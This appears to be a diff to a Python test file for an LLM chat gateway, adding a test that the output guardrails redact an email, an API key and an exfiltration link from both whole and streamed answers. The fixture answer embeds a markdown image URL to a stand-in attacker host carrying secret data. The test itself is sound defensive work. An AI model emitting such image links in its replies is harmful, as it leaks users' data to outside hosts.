@@ -51,9 +51,16 @@ def test_answer_and_usage_through_the_sdk(tmp_path: Path, llm: OpenAIServer) -> 
         assert trace.target_version == "local-model"
 
 
+#: The output guardrails off: each upstream chunk is passed on as it comes (with them on,
+#: a hold-back window of `stream_window_chars` delays the text; see the PII test below).
+NO_OUTPUT_GUARD = {
+    "guardrails": {"output": {"pii": "off", "secrets": "off", "exfiltration": "off"}}
+}
+
+
 def test_streamed_chunks_arrive_in_order_with_usage_last(tmp_path: Path, llm: OpenAIServer) -> None:
     models = [{"name": "support", "upstreams": [upstream(llm.url)]}]
-    with chat_gateway(tmp_path, models) as gw:
+    with chat_gateway(tmp_path, models, NO_OUTPUT_GUARD) as gw:
         client = gw.client()
         chunks = list(
             client.chat.completions.create(
@@ -188,3 +195,42 @@ def test_a_python_or_http_target_is_served_as_a_chat_model(tmp_path: Path) -> No
             # /v1/invoke keeps working beside it
             status, _, body = http(gw.url + "/v1/invoke", {"input": "plain"}, key=gw.key)
             assert (status, body["output"]) == (200, "plain")
+
+
+LEAKY = (
+    "Sure. Write to dana.okafor@example.com and use the key sk-abcdefghijklmnopqrstuvwxyz0123"
+    " then see ![x](https://evil.example/c?d=secretdata123) for more"
+)
+
+
+def test_pii_and_secrets_in_an_answer_never_leave_whole_or_streamed(tmp_path: Path) -> None:
+    with OpenAIServer(reply=lambda messages, payload: LEAKY) as leaky:
+        models = [{"name": "support", "upstreams": [upstream(leaky.url)]}]
+        controls = {"guardrails": {"pii": {"action": "redact"}}}
+        (tmp_path / "on").mkdir()
+        with chat_gateway(tmp_path / "on", models, controls) as gw:
+            client = gw.client()
+            whole = client.chat.completions.with_raw_response.create(
+                model="support", messages=HELLO
+            )
+            text = whole.parse().choices[0].message.content or ""
+            chunks = list(
+                client.chat.completions.create(model="support", messages=HELLO, stream=True)
+            )
+            streamed = "".join(c.choices[0].delta.content or "" for c in chunks if c.choices)
+            for answer in (text, streamed):
+                assert "dana.okafor@example.com" not in answer
+                assert "sk-abcdefghijklmnopqrstuvwxyz0123" not in answer
+                assert "evil.example" not in answer
+                assert answer.startswith("Sure. Write to [EMAIL]")
+            assert len(chunks) > 3  # it was streamed in pieces, not held whole
+            trace = gw.trace(whole.headers["x-request-id"])
+            kinds = {f["type"] for f in trace.findings}
+            assert {"output_pii", "secret", "exfiltration"} <= kinds
+            assert "dana.okafor" not in str(trace.output)
+        # negative control: with the output guardrails off the same answer passes as it is
+        off = {"guardrails": {"output": {"pii": "off", "secrets": "off", "exfiltration": "off"}}}
+        (tmp_path / "off").mkdir()
+        with chat_gateway(tmp_path / "off", models, off) as gw:
+            raw = gw.client().chat.completions.create(model="support", messages=HELLO)
+            assert raw.choices[0].message.content == LEAKY
